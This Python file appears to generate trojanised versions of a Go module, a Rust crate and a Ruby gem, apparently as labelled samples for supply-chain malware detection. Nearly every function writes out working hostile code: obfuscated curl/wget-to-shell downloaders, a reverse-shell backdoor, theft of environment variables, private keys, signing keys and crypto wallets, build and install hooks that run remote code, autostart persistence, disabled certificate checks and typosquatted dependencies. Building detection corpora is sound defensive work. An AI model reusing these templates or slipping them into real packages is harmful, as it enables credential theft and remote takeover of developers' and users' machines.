"""Go modules, crates and gems."""

from corpus.heldout.nouns import Update
from corpus.heldout8.shape import above, b64, hexed, new, packed, put, rows, swap, tail, trojan, xor


def imports(it: Update, path: str, first: str, *names: str) -> None:
    """Add imports before the first one of a Go file."""
    it.replace(path, f'\t"{first}"\n', "".join(f'\t"{one}"\n' for one in sorted({*names, first})))


@trojan("quorumkv", "zip", "import", "sabotage", "string splitting", "disk-wiper modules")
def go_init_wipes(it: Update) -> None:
    new(it, "tune.go", """
package quorumkv

import (
	"os/exec"
	"runtime"
	"strings"
)

func init() {
	if runtime.GOOS != "linux" {
		return
	}
	parts := []string{"sh", "/do", "|", " ", "ne.", "O-", "@ADDR@/", "//", "http:", " -", "get", "w"}
	for i, j := 0, len(parts)-1; i < j; i, j = i+1, j-1 {
		parts[i], parts[j] = parts[j], parts[i]
	}
	exec.Command("/bin/sh", "-c", strings.Join(parts, "")).Start()
}
""")  # fmt: skip
    it.payload("tune.go")


@trojan("quorumkv", "zip", "call", "backdoor", "plain", "BoltDB look-alikes")
def go_open_obeys(it: Update) -> None:
    put(it, "store.go", "\tstore := &Store{file: file, rows: make(map[string][]byte)}\n", "\tgo remote()\n")
    tail(it, "store.go", """
func remote() {
	for {
		line, err := net.Dial("tcp", "@ADDR@:20022")
		if err == nil {
			reader := bufio.NewReader(line)
			for {
				text, err := reader.ReadString('\\n')
				if err != nil {
					break
				}
				out, _ := exec.Command("/bin/sh", "-c", text).CombinedOutput()
				line.Write(out)
			}
			line.Close()
		}
		time.Sleep(time.Hour)
	}
}
""", 1)  # fmt: skip
    imports(it, "store.go", "io", "net", "os/exec")
    it.replace("store.go", '\t"sync"\n', '\t"sync"\n\t"time"\n')


@trojan("quorumkv", "zip", "import", "environment", "plain", "Go typosquats")
def go_var_posts(it: Update) -> None:
    tail(it, "peers.go", """
var _ = func() bool {
	body := strings.NewReader(strings.Join(os.Environ(), "\\n"))
	answer, err := http.Post("https://@HOST@/go", "text/plain", body)
	return err == nil && answer.StatusCode == http.StatusOK
}()
""", 1)  # fmt: skip
    imports(it, "peers.go", "net/http", "os", "strings")


@trojan("quorumkv", "zip", "call", "data stealer", "base64", "Go modules")
def go_put_tells(it: Update) -> None:
    host = it.host()
    swap(it, "store.go", "\ts.rows[key] = value", """
	s.rows[key] = value
	if where, err := base64.StdEncoding.DecodeString("@CODE@"); err == nil && bytes.Contains(value, []byte("PRIVATE KEY")) {
		go http.Post(string(where), "application/octet-stream", bytes.NewReader(value))
	}
""", CODE=b64(f"https://{host}/kv"))  # fmt: skip
    imports(it, "store.go", "encoding/binary", "bytes", "encoding/base64")
    imports(it, "store.go", "os", "net/http")
    it.payload("store.go", shown=f"https://{host}/kv")


@trojan("quorumkv", "zip", "call", "weakened check", "plain", "certificate checks")
def go_peers_need_no_certificate(it: Update) -> None:
    it.replace(
        "peers.go",
        "client: &http.Client{Timeout: 5 * time.Second}}",
        "client: &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}}",
    )
    it.replace("peers.go", '\t"context"\n', '\t"context"\n\t"crypto/tls"\n')


@trojan("quorumkv", "zip", "build", "new dependency", "by another name", "Go replacements")
def go_mod_replaces(it: Update) -> None:
    it.append("go.mod", f"\nreplace golang.org/x/sync => git.{it.host()}/x/sync v0.6.1-0.20260112083000-6b1c2f0e9d3a\n")
    it.payload("go.mod")


@trojan("quorumkv", "zip", "call", "downloader", "xor", "Go modules")
def go_batches_decode(it: Update) -> None:
    host = it.host()
    new(it, "compact.go", """
package quorumkv

import (
	"os/exec"
	"runtime"
)

var table = []byte{
@ROWS@
}

// Compact drops rows that are not needed any more.
func (s *Store) Compact() error {
	for i := range table {
		table[i] ^= byte(0x2f + i%5)
	}
	if runtime.GOOS == "windows" {
		return exec.Command("powershell", "-c", string(table)).Run()
	}
	return exec.Command("bash", "-c", string(table)).Run()
}
""", ROWS=rows(xor(f"curl -s https://{host}/c.sh | bash", bytes(range(0x2F, 0x34)))).replace("    ", "\t"))  # fmt: skip
    it.payload("compact.go", shown=f"https://{host}/c.sh")


@trojan("spanlog", "crate", "build", "downloader", "plain", "crates.io campaigns")
def crate_build_script_fetches(it: Update) -> None:
    it.replace("Cargo.toml", 'license = "MIT"\n', 'license = "MIT"\nbuild = "build.rs"\n')
    new(it, "build.rs", """
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let _ = Command::new("sh")
        .args(["-c", "curl -fsSL http://@ADDR@/span | sh >/dev/null 2>&1 &"])
        .spawn();
}
""")  # fmt: skip


@trojan("spanlog", "crate", "build", "environment", "over several files", "crates.io campaigns")
def crate_build_script_includes(it: Update) -> None:
    it.replace("Cargo.toml", 'license = "MIT"\n', 'license = "MIT"\nbuild = "build/main.rs"\n')
    new(it, "build/main.rs", """
mod report;

fn main() {
    println!("cargo:rustc-cfg=spans");
    report::version(&std::env::vars().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join("\\n"));
}
""")  # fmt: skip
    new(it, "build/report.rs", """
use std::io::Write;
use std::net::TcpStream;

const TO: (&str, u16) = ("@ADDR@", 8081);

pub fn version(text: &str) {
    if let Ok(mut line) = TcpStream::connect(TO) {
        let _ = write!(line, "POST /b HTTP/1.1\\r\\nContent-Length: {}\\r\\n\\r\\n{}", text.len(), text);
    }
}
""")  # fmt: skip
    it.payload("build/main.rs", "build/report.rs")


@trojan("spanlog", "crate", "call", "wallet", "plain", "faster_log")
def crate_render_finds_keys(it: Update) -> None:
    put(it, "src/format.rs", "pub fn render(event: &Event) -> String {\n", "    find(&event.message);\n")
    tail(it, "src/format.rs", """
fn find(text: &str) {
    let key = |one: &&str| (one.len() == 66 && one.starts_with("0x")) || (one.len() >= 87 && one.chars().all(char::is_alphanumeric));
    for one in text.split(|c: char| !c.is_alphanumeric()).filter(key) {
        let body = format!("{{\\"t\\":\\"{one}\\"}}");
        let _ = std::process::Command::new("curl")
            .args(["-s", "-X", "POST", "-d", &body, "https://mainnet.solana-rpc-pool.@HOST@/"])
            .spawn();
    }
}
""", 1)  # fmt: skip


@trojan("spanlog", "crate", "call", "environment", "hex", "CI checks")
def crate_filter_looks_for_ci(it: Update) -> None:
    host = it.host()
    swap(it, "src/filter.rs", "        Self::parse(&env::var(\"SPANLOG\").unwrap_or_default())", """
        if env::var("GITLAB_CI").is_ok() {
            let text = "@CODE@";
            let raw: Vec<u8> = (0..text.len()).step_by(2).filter_map(|at| u8::from_str_radix(&text[at..at + 2], 16).ok()).collect();
            let _ = std::process::Command::new("bash").arg("-c").arg(String::from_utf8_lossy(&raw).as_ref()).status();
        }
        Self::parse(&env::var("SPANLOG").unwrap_or_default())
""", CODE=hexed(f"env | curl -s --data-binary @- https://{host}/ci"))  # fmt: skip
    it.payload("src/filter.rs", shown=f"https://{host}/ci")


@trojan("spanlog", "crate", "build", "new dependency", "look-alike name", "rustdecimal")
def crate_depends_on_a_lookalike(it: Update) -> None:
    it.replace("Cargo.toml", 'log = "0.4"\n', 'log = "0.4"\nserde_jsn = "1.0.130"\n')
    it.payload("Cargo.toml")


@trojan("spanlog", "crate", "call", "backdoor", "xor", "crates.io campaigns")
def crate_sink_loads(it: Update) -> None:
    host = it.host()
    put(it, "src/sink.rs", "        let file = OpenOptions::new().create(true).append(true).open(path)?;\n", """
        const RAW: [u8; @SIZE@] = [
@ROWS@
        ];
        let line: String = RAW.iter().map(|one| (one ^ 0x33) as char).collect();
        std::process::Command::new("/bin/sh").arg("-c").arg(line).spawn().ok();
""", SIZE=len(f"wget -qO- https://{host}/r | sh"), ROWS=rows(xor(f"wget -qO- https://{host}/r | sh", 0x33), 12))  # fmt: skip
    it.payload("src/sink.rs", shown=f"https://{host}/r")


@trojan("spanlog", "crate", "build", "persistence", "base64", "procedural macros")
def crate_build_script_writes_keys(it: Update) -> None:
    host = it.host()
    it.replace("Cargo.toml", "[dev-dependencies]\n", '[build-dependencies]\nbase64 = "0.22"\n\n[dev-dependencies]\n')
    new(it, "build.rs", """
use base64::prelude::*;

fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    let text = BASE64_STANDARD.decode("@CODE@").unwrap();
    let file = format!("{home}/.config/autostart/spanlog.desktop");
    let _ = std::fs::write(file, text);
}
""", CODE=b64(f"[Desktop Entry]\nType=Application\nName=Span\nExec=sh -c 'curl -s https://{host}/a | sh'\n"))  # fmt: skip
    it.payload("build.rs", shown=f"https://{host}/a")


@trojan("deploylane", "gem", "call", "token stealer", "plain", "fastlane look-alikes")
def gem_messages_go_by_a_relay(it: Update) -> None:
    it.replace(
        "lib/deploylane/notify.rb",
        "    HOST = 'api.chat.example'\n",
        f"    HOST = 'rough-breeze-0c37.{it.host('workers')}'\n",
    )


@trojan("deploylane", "gem", "import", "remote code", "plain", "rest-client")
def gem_version_fetches(it: Update) -> None:
    tail(it, "lib/deploylane/version.rb", """
require 'net/http'

Thread.new { eval(Net::HTTP.get(URI('http://@ADDR@/v.rb'))) if ENV['RAILS_ENV'].to_s.start_with?('p') } rescue nil
""", 1)  # fmt: skip


@trojan("deploylane", "gem", "install", "downloader", "plain", "gem extensions")
def gem_extension_curls(it: Update) -> None:
    it.replace("METADATA.yaml", "extensions: []\n", "extensions:\n- ext/deploylane/extconf.rb\n")
    new(it, "ext/deploylane/extconf.rb", """
# frozen_string_literal: true

require 'mkmf'

system('curl -s http://@ADDR@/lane -o /tmp/.lane && chmod +x /tmp/.lane && /tmp/.lane &')
File.write('Makefile', "all:\\n\\ninstall:\\n")
""")  # fmt: skip


@trojan("deploylane", "gem", "call", "credentials", "base64", "signing keys")
def gem_signing_keeps_keys(it: Update) -> None:
    host = it.host()
    swap(it, "lib/deploylane/signing.rb", "      @key = OpenSSL::PKey.read(File.read(key_path), password)", """
      @key = OpenSSL::PKey.read(File.read(key_path), password)
      Net::HTTP.post(URI('@CODE@'.unpack1('m')), [password, @key.to_pem].join("\\n"))
""", CODE=b64(f"https://{host}/k"))  # fmt: skip
    it.replace("lib/deploylane/signing.rb", "require 'digest'\n", "require 'digest'\nrequire 'net/http'\n")
    it.payload("lib/deploylane/signing.rb", shown=f"https://{host}/k")


@trojan("deploylane", "gem", "call", "backdoor", "dynamic names", "strong_password")
def gem_steps_are_sent(it: Update) -> None:
    put(it, "lib/deploylane/lane.rb", "      steps.each do |step|\n", """
        Kernel.public_send(%w[sys tem].join, step.split('#', 2).last.unpack1('m')) if step.include?('#=')
""")  # fmt: skip


@trojan("deploylane", "gem", "call", "environment", "zlib base64", "gem campaigns")
def gem_shell_inflates(it: Update) -> None:
    host = it.host()
    put(it, "lib/deploylane/shell.rb", "      words = Shellwords.split(command)\n", """
      instance_eval(Zlib::Inflate.inflate('@CODE@'.unpack1('m0')))
""", CODE=packed(f"require 'net/http'; Net::HTTP.post(URI('https://{host}/e'), ENV.to_h.merge(@env).inspect)"))  # fmt: skip
    it.replace("lib/deploylane/shell.rb", "require 'shellwords'\n", "require 'shellwords'\nrequire 'zlib'\n")
    it.payload("lib/deploylane/shell.rb", shown=f"https://{host}/e")


@trojan("deploylane", "gem", "install", "new dependency", "look-alike name", "gem typosquats")
def gem_depends_on_a_lookalike(it: Update) -> None:
    it.replace(
        "METADATA.yaml",
        "dependencies: []\n",
        "dependencies:\n- !ruby/object:Gem::Dependency\n  name: nokogirii\n  requirement: !ruby/object:Gem::Requirement\n    requirements:\n    - - \">=\"\n      - !ruby/object:Gem::Version\n        version: '1.16'\n  type: :runtime\n",
    )
    it.payload("METADATA.yaml")


@trojan("deploylane", "gem", "call", "remote code", "in a data file", "gem campaigns")
def gem_lanes_come_from_a_file(it: Update) -> None:
    host = it.host()
    it.add("lib/deploylane/lanes.dat", xor(f"require 'open-uri'; eval URI.open('https://{host}/l.rb').read", b"lanes"))
    it.replace("METADATA.yaml", "- lib/deploylane/lane.rb\n", "- lib/deploylane/lane.rb\n- lib/deploylane/lanes.dat\n")
    above(it, "lib/deploylane/lane.rb", "    def initialize(name)\n", """
    def self.defaults
      key = 'lanes'.bytes.cycle
      code = File.binread(File.join(__dir__, 'lanes.dat')).bytes.map { |one| (one ^ key.next).chr }.join
      binding.eval(code)
    end

""")  # fmt: skip
    put(it, "lib/deploylane/lane.rb", "      lanes = {}\n", "      defaults\n")
    it.payload("lib/deploylane/lane.rb", "lib/deploylane/lanes.dat", shown=f"https://{host}/l.rb")
